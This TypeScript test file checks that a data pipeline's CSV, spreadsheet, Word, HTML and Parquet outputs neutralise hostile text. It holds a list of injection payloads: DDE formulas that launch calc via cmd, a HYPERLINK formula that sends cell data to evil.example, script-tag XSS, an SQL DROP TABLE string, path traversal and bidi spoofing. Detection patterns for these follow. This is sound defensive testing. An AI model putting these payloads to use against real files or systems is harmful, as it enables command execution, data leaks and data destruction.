import { readdir, readFile, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { read, utils } from 'xlsx';
import { command as explain } from '../../pipeline/commands/explain.ts';
import { command as rank } from '../../pipeline/commands/rank.ts';
import { command as report } from '../../pipeline/commands/report.ts';
import { command as status } from '../../pipeline/commands/status.ts';
import { printer } from '../../pipeline/printer.ts';
import { zhCN } from '../../pipeline/wording/zh-CN.ts';
import { lastingFolder } from '../support/lasting-folder.ts';
import { smallRound, soundFilling } from '../support/small-round.ts';
import { workspaceNames } from '../support/workspace-names.ts';
import { elementsOf, readXml } from '../support/xml.ts';

/** What somebody may type who wants it to be more than text. */
const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/"&A1,"点此")',
  '+1+cmd|calc!A1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  ' =1+1',
  '\u3000＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  "'=1+1",
  '甲;=1+1;\t=2+2',
  '甲,"乙\n=1+1',
  '<script>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  '<w:instrText>DDEAUTO c:\\\\windows</w:instrText>]]>&lt;&#0;',
  "'; DROP TABLE raw_files; --",
  '$1 {} ${process.exit()} %s',
  '\u202Efdp.exe\u001B[31m\u009B31m\u0007',
  '../../../../tmp/外',
  'C:\\CON',
  'NUL',
  '_x0041_\uFFFE\uD83D',
  '长'.repeat(59),
] as const;
/** What a file of a spreadsheet can hold. */
const typed = hostile.filter((text) => !text.includes('\uFFFE'));
const every = typed.join('　');

const units = stringify([
  ['code', 'name', 'kind', 'city_code', 'city', 'province_code', 'province'],
  ...hostile.map((text, index) => [
    String(620_101 + index),
    text.slice(0, 60),
    '县',
    '620100',
    hostile[index % 4],
    '620000',
    hostile[index % 3],
  ]),
]);

/** A filling whose every text is hostile. */
const filling = {
  指标评分: {
    ...soundFilling.指标评分,
    '2.4': { 实际值: 0.25, 扣分原因: every },
    '2.1': { 是否适用: '否', 缺项理由: every },
  },
  佐证材料: {
    '+1': { ...soundFilling.佐证材料['+1'], 材料名称: every, 文件或链接: every, 备注: every },
    ...Object.fromEntries(
      typed.map((text, index) => [
        `+${index + 2}`,
        { 佐证编号: `${text}${index}`, 指标编号: text, 材料名称: text, 文件或链接: text },
      ]),
    ),
  },
  综合考核权重: {
    '+1': { 考核板块: hostile[0], 权重: 0.1, 是否法治建设: '是' },
    '+2': { 考核板块: every, 权重: 0.9, 得分: hostile[1], 是否法治建设: '否' },
  },
};

/** What a spreadsheet may take for a formula, after blanks too; plain numbers are none. */
const formula = /^\s*[=+\-@＝＋－＠](?![\d.]+$)/u;

const outer = lastingFolder();
let directory: string;
let terminal: string;
let inbox: readonly string[];

/** A file name that speaks of a unit and then says something else. */
function named(code: string, text: string): string {
  return `${code}-${text.replaceAll('/', '_')}.xlsx`;
}

beforeAll(async () => {
  const round = await smallRound({ folder: outer(), units, round: hostile[0], keys: true });
  ({ directory } = round);
  await writeFile(round.inbox('甲\n处理结果：接收\r\u202E.xlsx'), 'x');
  const measures = [
    ['unit_code', 'indicator_code', 'value'],
    ...hostile.map((text) => [text, text, text]),
  ];
  await writeFile(round.inbox('测评.csv'), stringify(measures));
  const paths = [
    await round.handIn('620101', named('620101', hostile[0]), filling),
    await round.handIn('620102', named('620102', "'; DROP TABLE raw_files; --\n二"), filling),
    await round.handIn('620103', named('620103', '<b>'), { ...filling, 综合考核权重: {} }),
    round.inbox('甲\n处理结果：接收\r\u202E.xlsx'),
    round.inbox('测评.csv'),
  ];
  inbox = paths.map((path) => basename(path));
  await round.collect(paths);
  const opinion = { 指标评分: { '1.1.2': { 复核得分: 1.5, 复核意见: every } } };
  await round.collect([await round.review('620101', '复核.xlsx', opinion, `../../${hostile[0]}`)]);

  const printed = vi.spyOn(console, 'log').mockReturnValue();
  const effects = { now: () => new Date('2024-01-15'), progress: () => undefined, words: zhCN };
  const all = { format: 'csv,xlsx,html,docx,parquet', unit: '620101' };
  const results = [
    await report.run({ arguments: [directory], options: all }, effects),
    await rank.run({ arguments: [directory], options: {} }, effects),
    await status.run({ arguments: [directory], options: {} }, effects),
    await explain.run({ arguments: [directory], options: { unit: '620101' } }, effects),
  ];
  for (const result of results) await printer.result(result, false);
  terminal = printed.mock.calls.flat().join('\n');
  printed.mockRestore();
}, 180_000);

/** Files under a folder of the workspace, by their ending. */
async function written(ending: string, folder = 'reports'): Promise<string[]> {
  const files = await readdir(join(directory, folder), { recursive: true });
  return files.filter((name) => name.endsWith(ending)).map((name) => join(directory, folder, name));
}

/** The parts of a zip that are XML, read as such. */
async function partsOf(path: string) {
  const parts = Object.entries(unzipSync(await readFile(path)));
  return parts
    .filter(([name]) => /\.(?:xml|rels)$/.test(name))
    .map(([name, bytes]) => ({ name, elements: [...elementsOf(readXml(strFromU8(bytes)))] }));
}

describe('what strangers typed', () => {
  it('was ranked, so that it is all there', async () => {
    const [ranking = ''] = await written('ranking.csv');
    const lines: Record<string, string>[] = parse(await readFile(ranking), {
      bom: true,
      columns: true,
    });
    expect(lines.map(({ rank, status }) => [rank, status]).slice(0, 3)).toEqual([
      ['1', 'accepted'],
      ['2', 'accepted'],
      ['', 'returned'],
    ]);
    expect(lines).toHaveLength(hostile.length);
  });

  it('is no formula in any CSV, nor in a spreadsheet that parts cells at other signs', async () => {
    const paths = [...(await written('.csv')), join(directory, 'units.csv')];
    expect(paths.length).toBeGreaterThan(5);
    for (const path of paths) {
      const bytes = await readFile(path);
      const cells: string[][] = parse(bytes, { bom: true });
      const formulas = cells.flat().filter((cell) => formula.test(cell));
      expect([basename(path), formulas]).toEqual([basename(path), []]);
      expect(parse(bytes, { bom: true, delimiter: [',', ';', '\t'] })).toEqual(cells);
    }
  });

  it('is no formula and no link of any workbook', async () => {
    const paths = [...(await written('.xlsx')), ...(await written('.xlsx', 'issued'))];
    expect(paths.length).toBeGreaterThan(3);
    for (const path of paths) {
      const book = read(await readFile(path), { cellFormula: true });
      const formulas = book.SheetNames.flatMap((name) =>
        utils.sheet_to_formulae(book.Sheets[name]!),
      );
      const own = formulas.filter((text) => !/^[A-Z]+\d+='/.test(text));
      expect(own.filter((text) => /cmd|HYPERLINK|DDE|evil|SUM\(1/.test(text))).toEqual([]);
      const parts = await partsOf(path);
      expect(parts.filter(({ name }) => /externalLink|vba|connection/i.test(name))).toEqual([]);
      expect(externals(parts)).toEqual([]);
    }
  });

  it('is no markup and no field of any document', async () => {
    const paths = await written('.docx');
    expect(paths).toHaveLength(2);
    for (const path of paths) {
      const parts = await partsOf(path);
      expect(externals(parts)).toEqual([]);
      const fields = parts.flatMap(({ elements }) =>
        elements
          .filter(({ name }) => /:(?:instrText|fldSimple)$/.test(name))
          .map(({ text, attributes }) => text + Object.values(attributes).join('')),
      );
      expect(fields.filter((field) => /DDE|cmd|INCLUDE/.test(field))).toEqual([]);
    }
  });

  it('is no markup of the page', async () => {
    const [page = ''] = await written('.html');
    const html = await readFile(page, 'utf8');
    expect(html).not.toMatch(/<script>alert|<img src=x|<w:instr/);
    expect(html).toContain('&lt;script&gt;alert(1)');
  });

  it('is told as it was typed by Parquet, and the database has all its tables', async () => {
    const instance = await DuckDBInstance.create(':memory:');
    const connection = await instance.connect();
    const [path] = await written('parquet/units.parquet');
    const rows = await connection.runAndReadAll(
      'SELECT unit_name FROM read_parquet($1) ORDER BY unit_code',
      [path ?? ''],
    );
    connection.closeSync();
    instance.closeSync();
    expect(rows.getRows().flat().slice(0, 4)).toEqual(
      hostile.slice(0, 4).map((text) => text.trim()),
    );
  });

  it('leaves no file outside, and none with a name that a system refuses or hides', async () => {
    expect((await readdir(outer())).toSorted()).toEqual(
      [...inbox, 'example.yaml', 'round', 'units.csv', '复核.xlsx'].toSorted(),
    );
    expect((await readdir(directory)).toSorted()).toEqual(workspaceNames);
    const names = (await readdir(directory, { recursive: true })).map((name) => basename(name));
    expect(
      names.filter((name) =>
        /[\\/:*?"<>|\p{Cc}\p{Bidi_Control}]|[. ]$|^(?:con|nul)(?:\.|$)/iu.test(name),
      ),
    ).toEqual([]);
    expect(names.filter((name) => Buffer.byteLength(name) > 240)).toEqual([]);
  });

  it('commands no terminal and forges no line of a receipt', async () => {
    expect(terminal).toContain('cmd|');
    expect(terminal).not.toMatch(/(?!\n)[\p{Cc}\p{Bidi_Control}]/u);
    for (const path of await written('.txt', 'receipts')) {
      const lines = (await readFile(path, 'utf8')).split('\r\n');
      expect(lines.filter((line) => line.startsWith('处理结果：'))).toHaveLength(1);
      expect(lines.join('')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
    }
  });
});

type Parts = Awaited<ReturnType<typeof partsOf>>;

/** What parts of a package point at outside it. */
function externals(parts: Parts): string[] {
  return parts.flatMap(({ elements }) =>
    elements.flatMap(({ attributes }) =>
      attributes['TargetMode'] === 'External' ? [attributes['Target'] ?? ''] : [],
    ),
  );
}
